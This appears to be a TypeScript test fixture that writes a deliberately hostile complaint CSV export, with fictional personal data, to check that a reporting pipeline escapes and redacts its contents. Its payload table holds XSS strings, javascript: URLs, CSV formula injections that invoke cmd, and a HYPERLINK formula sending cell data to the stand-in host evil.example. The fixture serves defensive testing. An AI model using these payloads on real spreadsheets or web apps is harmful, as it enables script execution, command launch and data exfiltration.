// A hostile complaint export, written out by hand (only the 1 MB field is generated).
// Every field that reaches a report carries a payload for the context it lands in,
// and the customer columns and descriptions carry personal data in real formats.
// PII lists every original the export contains, for the leak grep.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { COMPLAINT_HEADER } from '../../data/generate.ts';

/** Every piece of personal data in the export, as the export has it (and as bare digits). */
export const PII = {
  names: ['张三丰', '欧阳娜娜', '赵小明', 'John Smith', 'Anna Lee', 'Smith', '三丰', '娜娜', '小明'],
  phones: ['13812345678', '+86 139 0011 2233', '13900112233', '15900001111', '18611112222', '010-62345678', '62345678'],
  ids: ['11010519491231002X', '440305199001011234', '320102198001011236'],
  emails: ['zhang.san@example.com', 'anna.lee@example.org', 'zxm@corp.example.cn'],
};

// Payloads, one per context. __pwned is set by any of them that ever runs.
export const HOSTILE = {
  scriptTag: `<script>window.__pwned='script'</script>客服部`,
  imgOnerror: `"><img src=x onerror="window.__pwned='img'">`,
  svgOnload: `<svg onload="window.__pwned='svg'">`,
  closeScript: `</script><script>window.__pwned='close'</script><!--`,
  jsUrl: `javascript:window.__pwned='href'`,
  vegaSignal: `{"signal": "window.__pwned='signal'"}`,
  vegaDatum: `datum.x + (window.__pwned='datum')`,
  hyperlink: `=HYPERLINK("http://evil.example/?leak="&A1,"点我")`,
  plusCmd: `+cmd|' /C calc'!A0`,
  atSum: `@SUM(1+1)*cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
  ansi: `\u001b[31mRED\u001b[0m\u001b]0;pwned\u0007\u009b2J`,
  rtl: `invoice\u202Efdp.exe`,
  lineSep: `a\u2028b\u2029c`,
};

const row = (cells: string[]) => cells.map((c) => (/[",\n\r]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',');

// Stage times: received Thursday 2025-10-09 09:00, registered 2025-10-11 10:00 (49 h later:
// the 24 h register commitment is breached, due 2025-10-10, so it counts in October's breaches);
// signed for 09:10 (the demo's sign-off column, data/generate.ts).
const late = ['2025-10-09 09:00:00', '2025-10-11 10:00:00', '2025-10-09 09:10:00', '2025-10-11 11:00:00', '', '2025-10-13 10:00:00',
  '2025-10-14 10:00:00', '2025-10-14 12:00:00', '2025-10-15 10:00:00', '60', '2025-10-20 10:00:00'];

export function writeHostileExport(dir: string): { file: string; rows: number; loaded: number; rejected: number } {
  const h = HOSTILE;
  const big = 'x'.repeat(512 * 1024) + ' 联系电话18611112222 ' + 'y'.repeat(512 * 1024); // a 1 MB description
  const lines = [
    COMPLAINT_HEADER,
    // H1: script tag department, ANSI team, payload handler; PII in every customer column and the text.
    row(['H1', 'phone', 'general', '账单', h.scriptTag, h.ansi, h.svgOnload, h.svgOnload, 'U001', '张三丰', '13812345678', '', 'true', '0', ...late,
      `用户张三丰来电反映宽带断网，手机13812345678，身份证11010519491231002X，邮箱zhang.san@example.com ${h.scriptTag}`]),
    // H2: attribute breakout and RTL override; +86 number with spaces; Latin name with a title in the text.
    row(['H2', 'app', 'general', h.rtl, h.imgOnerror, h.jsUrl, h.hyperlink, h.hyperlink, 'U002', 'Anna Lee', '+86 139 0011 2233', 'vip', 'true', '0', ...late,
      `Ms Anna Lee (anna.lee@example.org, ID 440305199001011234) says ${h.imgOnerror} and ${h.closeScript}`]),
    // H3: Vega expression strings, formula cells.
    row(['H3', 'web', 'general', h.vegaDatum, h.vegaSignal, h.closeScript, h.plusCmd, h.atSum, 'U003', '欧阳娜娜', '15900001111', '', 'true', '0', ...late,
      `客户欧阳娜娜投诉：姓名：欧阳娜娜 电话010-62345678 ${h.vegaSignal} ${h.lineSep}`]),
    // H4: the same customer again (a repeat complaint), with the 1 MB description.
    row(['H4', 'web', 'general', h.vegaDatum, h.vegaSignal, h.closeScript, h.minus, h.minus, 'U003', '欧阳娜娜', '15900001111', '', 'true', '0',
      '2025-10-10 09:00:00', late[1], '2025-10-10 09:10:00', ...late.slice(3), big]),
    // H5: an English name stated in the text, ID with a trailing X inside words.
    row(['H5', 'email', 'general', '账单', h.scriptTag, h.ansi, h.svgOnload, h.svgOnload, 'U004', 'John Smith', '18611112222', '', 'true', '0', ...late,
      `My name is John Smith, mail zxm@corp.example.cn, card 320102198001011236. ${h.jsUrl}`]),
    // H6: rejected (received_at is not a date); the row is kept in rejects with its raw JSON.
    row(['H6', 'phone', 'general', '账单', h.scriptTag, h.ansi, '王芳', '王芳', 'U005', '赵小明', '13812345678', '', 'true', '0',
      'not a date', '', '', '', '', '', '', '', '', '', '', `赵小明 zxm@corp.example.cn 11010519491231002X`]),
    // H7: rejected by the reader (one field too many): kept as the raw CSV line.
    row(['H7', 'phone', 'general', '账单', '客服部', '一组', '王芳', '王芳', 'U006', '赵小明', '13812345678', '', 'true', '0', ...late,
      '多了一列', 'extra']),
  ];
  // The file name is hostile too: it is shown in the reconciliation table.
  const file = join(dir, `complaints-"><img src=x onerror=alert(1)>.csv`);
  writeFileSync(file, lines.join('\n') + '\n');
  return { file, rows: 7, loaded: 5, rejected: 2 };
}

/** A panel that puts export text where Vega could misread it: tooltip, href and labels. */
export const HOSTILE_PANEL = `title: { zh: 投诉文本, en: Complaint text }
type: chart
query: report/hostile_text.sql
spec:
  mark: { type: bar, tooltip: true }
  encoding:
    y: { field: department, type: nominal, title: department }
    x: { field: complaints, type: quantitative, title: complaints }
    color: { field: category, type: nominal }
    href: { field: team }
    tooltip:
      - { field: department, type: nominal }
      - { field: handler, type: nominal }
      - { field: description, type: nominal }
`;

export const HOSTILE_SQL = `-- hostile_text: export text per department, for the hostile-input test.
-- Columns: department, team, category, handler TEXT, description TEXT (first 300 characters), complaints BIGINT
select department, team, category, handler, left(description, 300) as description, count(*) as complaints
from stg_complaints
group by all
order by department, team, category, handler, description
`;
